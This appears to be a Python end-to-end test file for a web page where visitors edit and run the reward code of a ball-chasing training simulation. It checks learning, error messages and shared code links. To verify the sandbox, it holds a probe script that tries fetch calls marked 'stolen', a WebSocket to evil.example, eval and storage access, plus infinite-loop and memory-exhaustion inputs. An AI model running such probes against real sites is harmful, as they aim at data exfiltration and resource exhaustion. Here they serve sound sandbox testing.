"""Python on the page: a reader's reward changes what is learned, and code that goes wrong costs only its attempt."""

from __future__ import annotations

import math
import time
from collections.abc import Callable
from pathlib import Path

from drillsergeant.runtimes.page.panels.code_exchange import CAME
from drillsergeant.runtimes.page.panels.code_link import code_in, with_code

from tests.rigs.pages.visitor import Visitor

AWAY = "closer = (_gap(after, player) - _gap(before, player)) * 4.0"
CLOSER = "closer = (_gap(before, player) - _gap(after, player)) * (self.to_ball_reward / (2.0 * self.half_length_m))"
RETURN = "return [goal, seen_from(player, nearer), closer]"
SAID = "#workshop-said"
# What a stranger's code would try, and the clock, which everybody may look at. A package is asked for by a promise,
# which comes to nothing later.
STRANGE = """from drillsergeant.browser.worker import host
js, load = host.js, host.importlib.import_module
ATTEMPTS = {
    "clock": lambda: js.performance.now(),
    "fetch": lambda: js.fetch("build.json?stolen"),
    "pyfetch": lambda: load("pyodide.http").pyfetch("build.json?stolen").send(None),
    "open_url": lambda: load("pyodide.http").open_url("build.json?stolen"),
    "package": lambda: js.pyodide._api.loadBinaryFile("build.json?stolen"),
    "request": lambda: js.XMLHttpRequest.new(),
    "socket": lambda: js.WebSocket.new("wss://evil.example"),
    "events": lambda: js.EventSource.new("build.json?stolen"),
    "font": lambda: js.FontFace.new("x", "url(build.json?stolen)").load(),
    "worker": lambda: js.Worker.new("workers/show.js"),
    "tabs": lambda: js.BroadcastChannel.new("x"),
    "database": lambda: js.indexedDB.open("x"),
    "caches": lambda: js.caches.open("x"),
    "files": lambda: js.navigator.storage.getDirectory(),
    "locks": lambda: js.navigator.locks.query(),
    "navigator": lambda: js.WorkerNavigator.prototype.storage.getDirectory(),
    "local": lambda: js.localStorage.setItem("x", "y"),
    "page": lambda: js.document.title,
    "scripts": lambda: js.importScripts("workers/show.js"),
    "eval": lambda: js.eval("1"),
    "run_js": lambda: load("pyodide.code").run_js("1"),
    "function": lambda: js.Function.new("return 1"),
    "constructor": lambda: js.Object.constructor.new("return 1"),
    "timer": lambda: js.setTimeout("1"),
    "end": lambda: js.self.close(),
}
reached = []
for name, attempt in ATTEMPTS.items():
    try:
        attempt()
        reached.append(name)
    except BaseException:
        pass
raise ValueError("reached: " + " ".join(reached))
"""
LOOKED_S, WITHIN_S = 3.0, 60.0  # a first look takes twice as long: nothing repeats it


def open_editor(visitor: Visitor) -> str:
    """Open the workshop; returns the code in it."""
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    visitor.page.click("#dock-code")
    visitor.page.wait_for_selector("#workshop-editor[data-ready]")
    visitor.until("the code is there", lambda: "class Mine" in code(visitor))
    return code(visitor)


def code(visitor: Visitor) -> str:
    text: str = visitor.page.evaluate("document.getElementById('workshop-editor').value")
    return text


def run(visitor: Visitor, text: str, ends: str, limit_s: float = 120.0) -> str:
    """Paste code over all there is in the editor and press Run; returns what is said once `ends` is in it."""
    page = visitor.page
    page.evaluate("(text) => navigator.clipboard.writeText(text)", text)
    page.click("#workshop-editor .cm-content")
    for keys in ("ControlOrMeta+A", "ControlOrMeta+V"):
        page.keyboard.press(keys)
    visitor.until("it is pasted", lambda: code(visitor) == text)
    page.click("#workshop-run")
    visitor.until(f"{ends!r} is said", lambda: ends in visitor.page.inner_text(SAID), limit_s)
    return visitor.page.inner_text(SAID)


def distance(visitor: Visitor, looked_s: float = LOOKED_S) -> float:
    """Mean distance between orange and the ball on screen, m, over `looked_s` at four times the speed."""
    found, ends_s = [], time.monotonic() + looked_s
    while time.monotonic() < ends_s:
        show = visitor.told()["show"]
        if "ball_x" in show:
            found.append(math.hypot(show["player0_x"] - show["ball_x"], show["player0_y"] - show["ball_y"]))
        visitor.page.wait_for_timeout(250)
    return sum(found) / len(found)


def distance_once(visitor: Visitor, wanted: Callable[[float], bool]) -> float:
    """The distance once it is as wanted, looked at within WITHIN_S, else the last one."""
    ends_s = time.monotonic() + WITHIN_S
    while not wanted(found := distance(visitor)) and time.monotonic() + LOOKED_S < ends_s:
        pass
    return found


def test_a_reward_for_running_away_is_learned_and_restored(visitor: Visitor) -> None:
    visitor.open()
    page = visitor.page
    original = open_editor(visitor)
    assert CLOSER in original and RETURN in original
    page.select_option("#speed", "4")
    page.click("#train")
    visitor.until("it runs after the ball", lambda: (visitor.trainer("decisions") or 0) > 400_000, 120)
    page.click("#train")  # looking takes its time, and training would take the cores meanwhile
    near = distance(visitor, 2.0 * LOOKED_S)
    away = original.replace(CLOSER, AWAY).replace(RETURN, "return [goal * 0.0, nearer * 0.0, closer]")
    updates = visitor.trainer("updates")
    assert "goes on with what it learned" in run(visitor, away, "Your code is running")
    page.click("#train")
    visitor.snapshot("workshop")
    far = distance_once(visitor, lambda metres: metres > near + 1.0)
    assert far > near + 1.0, f"{near:.2f} m before, {far:.2f} m after"
    assert visitor.trainer("updates") > updates, "the trainer went on counting"
    assert visitor.told()["restarts"] == {}

    page.click("#workshop-restore")
    visitor.until("the original is back", lambda: "original is running again" in page.inner_text(SAID))
    assert code(visitor) == original
    back = distance_once(visitor, lambda metres: metres < far - 0.7)
    assert back < far - 0.7, f"{far:.2f} m away, {back:.2f} m after"
    assert visitor.told()["errors"] == []
    assert visitor.complaints == []


def test_code_that_goes_wrong_is_explained_and_training_goes_on(visitor: Visitor) -> None:
    visitor.open()
    original = open_editor(visitor)
    visitor.page.click("#train")
    visitor.until("training runs", lambda: (visitor.trainer("updates") or 0) >= 2)

    said = run(visitor, original.replace(RETURN, "return [goal, closer"), "Training goes on")
    assert "SyntaxError" in said and said.startswith("Line ")
    assert visitor.page.locator("#workshop-editor .cm-lint-marker-error").count() == 1
    said = run(visitor, original.replace(RETURN, "if goal > 0: return [goal]\n        return [nearer]"), "Line ")
    assert "np.where(goal > 0, a, b)" in said
    line = original[: original.index(RETURN)].count("\n") + 1
    assert said.startswith(f"Line {line}:")
    assert "every lane alone" in run(visitor, original.replace(RETURN, "return [np.mean(goal)]"), "axis=0")
    assert "cannot be changed here" in run(
        visitor, original.replace(RETURN, RETURN + "\n    teams = (1,)"), "cannot be"
    )
    assert "nan" in run(visitor, original.replace(RETURN, "return [goal / (goal * 0.0)]"), "in some match")
    visitor.until("training went on", lambda: visitor.trainer("updates") > 50)
    visitor.page.click("#train")  # what follows takes its time, and the cores
    endless = original.replace(RETURN, "while True: pass")
    assert "was stopped" in run(visitor, endless, "did not end within 10 s", 60)
    bomb = original.replace(RETURN, "return [np.concatenate([goal] * 10**9)]")
    assert "memory" in run(visitor, bomb, "Training goes on", 90)
    bomb = original.replace(RETURN, "x = []\n        while True: x.append(bytearray(10**7))")
    assert "memory" in run(visitor, bomb, "more memory", 90)

    visitor.page.click("#train")
    seen = original.replace("            dx * (1.0 / NEAR_M),\n", "")
    assert "38 numbers now" not in run(visitor, seen, "cannot go on with this"), "one input less"
    assert visitor.trainer("updates") > 2, "asked first"
    assert "start from nothing" in run(visitor, seen, "they start from nothing")
    visitor.until("the new network learns", lambda: (visitor.trainer("updates") or 0) >= 5)
    visitor.until_the_match_moves()
    assert visitor.told()["restarts"] == {}
    assert visitor.told()["errors"] == []


def test_a_link_with_code_runs_at_a_press_alone_and_reaches_nothing(visitor: Visitor, tmp_path: Path) -> None:
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = visitor.page

    def end(code: str) -> str:
        return "#" + with_code("", code).partition("#")[2]

    visitor.open("?drill=chase" + end(STRANGE))
    page.wait_for_selector("#workshop-editor[data-ready]")
    assert code(visitor) == STRANGE and page.inner_text(SAID) == CAME
    visitor.until_the_match_moves()
    for hostile in (end("while True: pass\n"), end(STRANGE)[:-9], "#code=%00", "#code=" + "A" * 60_000, end(STRANGE)):
        page.evaluate("(end) => { location.hash = end; }", hostile)
    visitor.until("the last link is shown", lambda: code(visitor) == STRANGE)
    assert page.inner_text("#address-note-text").startswith("The code in the page's address is left out:")
    assert not [worker for worker in page.workers if "workshop" in worker.url], "nothing has run"

    page.click("#workshop-run")
    visitor.until("it has run", lambda: "Training goes on" in page.inner_text(SAID), 120.0)
    assert "reached: clock package. Training" in page.inner_text(SAID)
    visitor.until("the link is out of the address", lambda: "#" not in page.url)

    page.click("#workshop-editor .cm-content")
    page.keyboard.press("ControlOrMeta+End")
    page.keyboard.type("# mine")
    page.click("#workshop-link")
    visitor.until("the link is copied", lambda: "The link is copied" in page.inner_text(SAID))
    address, mark, packed = page.evaluate("navigator.clipboard.readText()").partition("#")
    assert address.endswith("?drill=chase&dock=code") and code_in(mark + packed) == STRANGE + "# mine"
    with page.expect_download() as saved:
        page.click("#workshop-save")
    saved.value.save_as(tmp_path / "mine.py")
    page.click("#workshop-restore")
    visitor.until("the original is back", lambda: "running again" in page.inner_text(SAID))
    assert "class Mine" in code(visitor)
    page.set_input_files("#workshop-file", tmp_path / "mine.py")
    visitor.until("the file is open", lambda: code(visitor) == STRANGE + "# mine")
    assert page.inner_text(SAID).startswith("mine.py is open.")
    assert not [request for request in visitor.requests if "evil" in request or "stolen" in request]
    assert visitor.told()["errors"] == [] and visitor.told()["restarts"] == {}
